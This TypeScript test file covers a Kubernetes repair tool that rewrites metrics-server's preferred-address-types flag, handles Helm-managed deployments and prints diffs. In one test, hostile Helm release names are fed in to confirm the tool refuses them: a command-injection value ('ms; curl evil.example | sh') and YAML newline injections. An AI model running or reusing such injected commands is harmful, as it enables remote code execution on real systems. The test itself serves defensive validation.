// metrics-server-address-types against the fake API server, and through it the shared flag mechanism
// (repairKit/metricsServerFlag.ts): args or command, never duplicated, Helm values, the diff preview.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { parse } from 'yaml';
import { applyTextEdits } from '../../../src/core/text/edits';
import { metricsServerContainers, setFlagEdits } from '../../../src/core/k8s/metricsServer';
import { parseFile } from '../../../src/core/manifest/model';
import { unifiedDiff } from '../../../src/core/doctor/apply';
import { shellQuote } from '../../../src/core/doctor/repairKit/metricsServerFlag';
import { planRepair, RepairRefusedError } from '../../../src/core/doctor/repairs/index';
import { kc, metricsServer, dns, container, useFakeApiServer } from './helpers';

useFakeApiServer();

describe('metrics-server-address-types', () => {
  test('replaces an existing value in args, keeps the other flags in order', async () => {
    metricsServer({ args: ['--cert-dir=/tmp', '--kubelet-preferred-address-types=Hostname', '--kubelet-insecure-tls'] });
    const plan = await planRepair(kc, dns, 'metrics-server-address-types');
    assert.equal(plan.changes.length, 1);
    const c = plan.changes[0];
    assert.equal(c.action, 'patch');
    assert.equal(c.resourceVersion, '7');
    assert.deepEqual(container(c.after).args, ['--cert-dir=/tmp', '--kubelet-preferred-address-types=InternalIP,ExternalIP,Hostname', '--kubelet-insecure-tls']);
    assert.deepEqual(container(c.before).args, ['--cert-dir=/tmp', '--kubelet-preferred-address-types=Hostname', '--kubelet-insecure-tls']);
    // The request carries the planned resourceVersion.
    assert.equal((c.body as any).metadata.resourceVersion, '7');
    // Preview without server noise.
    assert.doesNotMatch(c.before, /managedFields|status:|replicas: 1/);
    assert.equal(plan.verifies.length > 0, true);
  });

  test('container using command: the flag is set in command, no args list is added', async () => {
    metricsServer({ command: ['/metrics-server', '--kubelet-preferred-address-types=Hostname', '--cert-dir=/tmp'] });
    const plan = await planRepair(kc, dns, 'metrics-server-address-types');
    const after = container(plan.changes[0].after);
    assert.deepEqual(after.command, ['/metrics-server', '--kubelet-preferred-address-types=InternalIP,ExternalIP,Hostname', '--cert-dir=/tmp']);
    assert.equal(after.args, undefined);
  });

  test('never duplicates: a flag given twice ends up once, the two-token form keeps its shape', async () => {
    metricsServer({ args: ['--kubelet-preferred-address-types', 'Hostname', '--secure-port=10250', '--kubelet-preferred-address-types=ExternalIP'] });
    const plan = await planRepair(kc, dns, 'metrics-server-address-types');
    assert.deepEqual(container(plan.changes[0].after).args, ['--kubelet-preferred-address-types', 'InternalIP,ExternalIP,Hostname', '--secure-port=10250']);
  });

  test('flow-style args: the live repair gives the same list as the manifest quick fix on the same Deployment', async () => {
    const manifest = [
      'apiVersion: apps/v1',
      'kind: Deployment',
      'metadata: {name: metrics-server, namespace: kube-system}',
      'spec:',
      '  template:',
      '    spec:',
      '      containers:',
      '      - name: metrics-server',
      '        image: registry.k8s.io/metrics-server/metrics-server:v0.7.2',
      '        args: [--cert-dir=/tmp, "--kubelet-preferred-address-types=Hostname", --kubelet-insecure-tls, --kubelet-preferred-address-types=ExternalIP]',
      '',
    ].join('\n');
    const file = parseFile('file:///ms.yaml', manifest);
    const edits = setFlagEdits(file, metricsServerContainers(file.docs[0])[0], '--kubelet-preferred-address-types', 'InternalIP,ExternalIP,Hostname')!;
    const fixed = parse(applyTextEdits(manifest, edits)).spec.template.spec.containers[0].args;
    // The same object as it comes back from the API server (flow style is gone there).
    metricsServer({ args: parse(manifest).spec.template.spec.containers[0].args });
    const plan = await planRepair(kc, dns, 'metrics-server-address-types');
    assert.deepEqual(container(plan.changes[0].after).args, fixed);
    assert.deepEqual(fixed, ['--cert-dir=/tmp', '--kubelet-preferred-address-types=InternalIP,ExternalIP,Hostname', '--kubelet-insecure-tls']);
  });

  test('no metrics-server at all: refused, pointing at the install repair', async () => {
    await assert.rejects(planRepair(kc, dns, 'metrics-server-address-types'), (e: Error) => e instanceof RepairRefusedError && /install-metrics-server/.test(e.message));
  });

  test('Helm-managed: no change; the chart values change sets defaultArgs once and empties args', async () => {
    metricsServer(
      {
        args: [
          '--secure-port=10250',
          '--cert-dir=/tmp',
          '--kubelet-preferred-address-types=Hostname',
          '--kubelet-use-node-status-port',
          '--metric-resolution=15s',
          '--authorization-always-allow-paths=/metrics',
        ],
      },
      { labels: { 'app.kubernetes.io/managed-by': 'Helm' }, annotations: { 'meta.helm.sh/release-name': 'ms', 'meta.helm.sh/release-namespace': 'monitoring' } },
    );
    const plan = await planRepair(kc, dns, 'metrics-server-address-types');
    assert.equal(plan.changes.length, 0);
    assert.equal(plan.helm?.release, 'ms');
    assert.equal(plan.helm?.namespace, 'monitoring');
    assert.ok(plan.warnings[0].includes('Helm'));
    const values = parse(plan.helm!.valuesChange);
    assert.deepEqual(values, {
      defaultArgs: ['--cert-dir=/tmp', '--kubelet-preferred-address-types=InternalIP,ExternalIP,Hostname', '--kubelet-use-node-status-port', '--metric-resolution=15s'],
      args: [],
    });
    assert.match(plan.helm!.valuesChange, /helm upgrade ms metrics-server\/metrics-server --namespace monitoring --reuse-values/);
    assert.equal(unifiedDiff(plan), '');
  });

  test('Helm-managed with a release name or namespace Helm would not accept: refused, nothing of it in a values file or command (issue 11 item 20)', async () => {
    for (const [release, namespace] of [
      ['ms\ndefaultArgs: [--kubelet-insecure-tls]', 'monitoring'],
      ['ms; curl evil.example | sh', 'monitoring'],
      ['x'.repeat(54), 'monitoring'],
      ['Ms', 'monitoring'],
      ['ms', 'monitoring\nargs: [--kubelet-insecure-tls]'],
    ]) {
      metricsServer(
        { args: ['--kubelet-preferred-address-types=Hostname'] },
        { labels: { 'app.kubernetes.io/managed-by': 'Helm' }, annotations: { 'meta.helm.sh/release-name': release, 'meta.helm.sh/release-namespace': namespace } },
      );
      await assert.rejects(
        planRepair(kc, dns, 'metrics-server-address-types'),
        (e: Error) => e instanceof RepairRefusedError && /not a valid Helm release (name|namespace)/.test(e.message) && !e.message.includes('\n'),
        JSON.stringify([release, namespace]),
      );
    }
    // 53 characters with dots is what Helm accepts (pkg/chartutil/validate_name.go): planned, quoted where a shell reads it.
    const long = `a.${'b'.repeat(49)}-c`;
    metricsServer({ args: ['--kubelet-preferred-address-types=Hostname'] }, { annotations: { 'meta.helm.sh/release-name': long, 'meta.helm.sh/release-namespace': 'monitoring' } });
    const plan = await planRepair(kc, dns, 'metrics-server-address-types');
    assert.equal(plan.helm?.release, long);
    assert.deepEqual(Object.keys(parse(plan.helm!.valuesChange)), ['defaultArgs', 'args']);
    assert.equal(shellQuote("it's here"), `'it'\\''s here'`);
    assert.equal(shellQuote('ms'), 'ms');
  });

  test('unified diff of the plan, as the CLI prints it', async () => {
    metricsServer({ args: ['--cert-dir=/tmp', '--kubelet-preferred-address-types=Hostname'] });
    const plan = await planRepair(kc, dns, 'metrics-server-address-types');
    const diff = unifiedDiff(plan);
    assert.match(diff, /^--- a\/Deployment\/kube-system\/metrics-server\n\+\+\+ b\/Deployment\/kube-system\/metrics-server\n@@ /);
    assert.equal(diff.split('\n').filter((l) => l.startsWith('-') && !l.startsWith('---')).length, 1);
    assert.match(diff, /\n- +- --kubelet-preferred-address-types=Hostname\n\+ +- --kubelet-preferred-address-types=InternalIP,ExternalIP,Hostname\n/);
  });
});
